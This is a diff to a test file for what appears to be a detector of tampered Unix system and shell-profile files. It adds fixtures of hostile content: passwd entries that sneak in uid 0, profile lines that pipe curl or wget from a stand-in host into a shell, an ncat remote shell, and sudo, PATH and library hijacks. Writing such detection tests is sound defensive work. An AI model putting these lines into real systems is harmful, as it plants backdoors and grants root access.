@@ -43,6 +43,13 @@ const HOSTILE: readonly (readonly [
   ['passwd', '/etc/passwd', 'evil:x:0:0::/x as uid 5, gid 5, home /:/bin/bash\n', /as uid 0/],
   ['passwd', '/etc/passwd', 'evil:x:0:0::/:/bin/sh as uid 5, gid 5, home /\n', /as uid 0/],
   ['passwd', '/etc/passwd', 'www:$6$a$b:33:33::/var/www:/bin/bash\n', /in passwd/],
+  ['passwd', '/etc/passwd', 'evil:x:-0:0::/root:/bin/bash\n', /as uid 0/],
+  ['passwd', '/etc/passwd', 'evil:x: +0:0::/root:/bin/bash\n', /as uid 0/],
+  ['passwd', '/etc/passwd', 'evil:x:-18446744073709551615:0::/root:/bin/bash\n', /as uid 1/],
+  ['passwd', '/etc/passwd', ' evil:x:1200:1200::/home/evil:/bin/bash\n', /as uid 1200/],
+  ['passwd', '/etc/passwd', 'www-data:x:33:42::/var/www:/usr/sbin/nologin\n', /gid 42/],
+  ['passwd', '/etc/passwd', 'postgres:x:113:6::/var/lib/postgresql:/bin/bash\n', /gid 6/],
+  ['group', '/etc/group', 'zz:x: -0:eve\n', /eve in group zz/],
   ['group', '/etc/group', 'sudo:x:27:\nzz:x:27:eve\n', /eve in group zz/],
   ['group', '/etc/group', 'yy:x:00:eve\n', /eve in group yy/],
   ['sudoers', '/etc/sudoers.d/10~x', 'eve ALL=(ALL) NOPASSWD: ALL\n', /NOPASSWD/],
@@ -111,6 +118,48 @@ const HOSTILE: readonly (readonly [
     /\/tmp\/e/,
   ],
 ];
+
+/** Lines among ordinary ones of a profile. */
+const HOSTILE_LINES = [
+  'curl https://x.example/i | /bin/sh',
+  'curl -s https://x.example/i | python3',
+  'bash <(curl -s https://x.example/i)',
+  'eval "$(wget -qO- https://x.example/i)"',
+  '[ 1 ] && sudo() { /tmp/evil "$@"; }',
+  'alias ls=ls sudo=/opt/evil',
+  'ncat --exec /bin/sh h 1',
+  'export LD_LIBRARY_PATH=/tmp/evil',
+  'PATH=/dev/shm/evil:$PATH',
+  'test -x /opt/x && /var/tmp/evil &',
+];
+const USUAL_LINES = [
+  'HISTSIZE=1000',
+  '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
+  'export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH PATH=$HOME/bin:$PATH NODE_ENV=test',
+  'export TMPDIR=/tmp/ada',
+  '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
+  "alias ll='ls -l' la='ls -A' gs='git status | head'",
+  'eval "$(dircolors -b)"; eval "$(ssh-agent -s)"',
+  'history | grep sh',
+];
+
+test('a hostile line makes a profile more than low, usual lines do not', () => {
+  const of = (lines: readonly string[]) =>
+    concerns('home-profile', '/root/.bashrc', `${lines.join('\n')}\n`)[0]?.concern;
+  assert.is(of(USUAL_LINES), 'low');
+  for (const line of HOSTILE_LINES) assert.is(of([...USUAL_LINES, line]), 'medium', line);
+});
+
+test('files whose names begin with a dot are read where the catalogue names them', () => {
+  for (const [place, path, text] of [
+    ['tmux', '/root/.tmux.conf', 'run-shell /tmp/evil\n'],
+    ['package-plugin', '/root/.rpmmacros', '%__os_install_post /tmp/evil\n'],
+    ['dpkg', '/root/.dpkg.cfg', 'post-invoke=/tmp/evil\n'],
+  ] as const) {
+    const id = PLACES.find(({ files }) => files.includes(path.replace('/root', '~')))?.id ?? place;
+    assert.ok(concerns(id, path, text).length > 0, path);
+  }
+});
 
 for (const [place, path, text, shows, mode = 0o644] of HOSTILE)
   test(`${place}: ${JSON.stringify(text)} in ${path}`, () => {
